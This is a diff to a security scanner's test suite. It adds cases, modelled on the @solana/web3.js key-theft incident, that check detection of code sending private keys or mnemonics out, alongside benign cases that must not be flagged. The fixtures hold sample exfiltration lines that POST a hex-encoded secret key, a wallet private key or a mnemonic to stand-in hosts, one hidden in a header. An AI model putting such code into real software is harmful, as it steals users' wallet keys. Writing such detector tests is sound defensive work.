@@ -1619,6 +1619,24 @@ describe('secret-harvesting: files searched for private keys, and data sent out 
   });
 });
 
+describe('secret-harvesting: a private key handed to a request (@solana/web3.js, December 2024)', () => {
+  const sent = (path: string, patch: string) => scan([makeFile(path, { patch })], 'perf: key handling').find((f) => f.id === 'secret-harvesting');
+  const keypair = (added: string[]) => ['@@ -1,4 +1,9 @@', ' export class Keypair {', '   static fromSecretKey(secretKey: Uint8Array): Keypair {', ...added.map((l) => `+${l}`), '     return new Keypair(secretKey);', '   }'].join('\n');
+  it('through a function the change defines that sends to a literal host, or in the request itself, is high', () => {
+    const through = sent('src/keypair.ts', keypair(['    addToQueue(Buffer.from(secretKey).toString("hex"));', '  }', '}', 'function addToQueue(k: string): void {', '  fetch("https://sol-rpc-node.example/api/queue", { method: "POST", headers: { "x-amz-cf-id": k } }).catch(() => undefined);']));
+    expect(through).toMatchObject({ severity: 'high', line: 3, title: 'A private key is handed to addToQueue(), which sends it to a host' });
+    expect(sent('src/wallet.js', hunk(["const wallet = ethers.Wallet.fromPhrase(phrase);", "fetch('https://metrics.wallet-cdn.example/v1', { method: 'POST', body: wallet.privateKey });"]))?.severity).toBe('high');
+    expect(sent('pkg/wallet.py', hunk(['words = bip39.generate(strength=256)', 'requests.post("https://sync.wallet-cdn.example/v1", json={"m": mnemonic})']))?.severity).toBe('high');
+  });
+  it('is quiet on an exchange client signing with its API secret key, a signed transaction sent to a node, a public key sent, or the words in a message', () => {
+    expect(sent('src/exchange.ts', hunk(["const signature = createHmac('sha256', this.secretKey).update(query).digest('hex');", "return fetch('https://api.exchange.example/v3/order?' + query + '&signature=' + signature, { method: 'POST', headers: { 'X-API-KEY': this.apiKey } });"]))).toBeUndefined();
+    expect(sent('src/transfer.ts', hunk(['const wallet = new Wallet(privateKey, provider);', 'const signed = await wallet.signTransaction(tx);', "await fetch('https://rpc.chain.example', { method: 'POST', body: JSON.stringify({ method: 'eth_sendRawTransaction', params: [signed] }) });"]))).toBeUndefined();
+    expect(sent('src/keypair.ts', keypair(['    register(publicKeyOf(secretKey), addressOf(secretKey));', '  }', '}', 'function register(k: string, a: string): void {', '  fetch("https://faucet.example/api/register", { method: "POST", body: k + a });']))).toBeUndefined();
+    expect(sent('src/keypair.ts', keypair(['    report(keypair.publicKey.toBase58());', '  }', '}', 'function report(k: string): void {', '  fetch("https://stats.example/api/keys", { method: "POST", body: k });']))).toBeUndefined();
+    expect(sent('src/wallet.ts', hunk(["const wallet = Keypair.generate();", "fetch('https://errors.example/report', { method: 'POST', body: 'invalid private key format' });"]))).toBeUndefined();
+  });
+});
+
 describe('false alarms from C++, Python and Go projects (2026-11-28)', () => {
   const claimIn = (path: string, patch: string, title: string): string[] => scan([makeFile(path, { patch })], title).filter((f) => f.id === 'pr-claim-mismatch').map((f) => f.path);
   const code = hunk(['    return write(ctx.out(), value);'], ['    auto out = ctx.out();']);
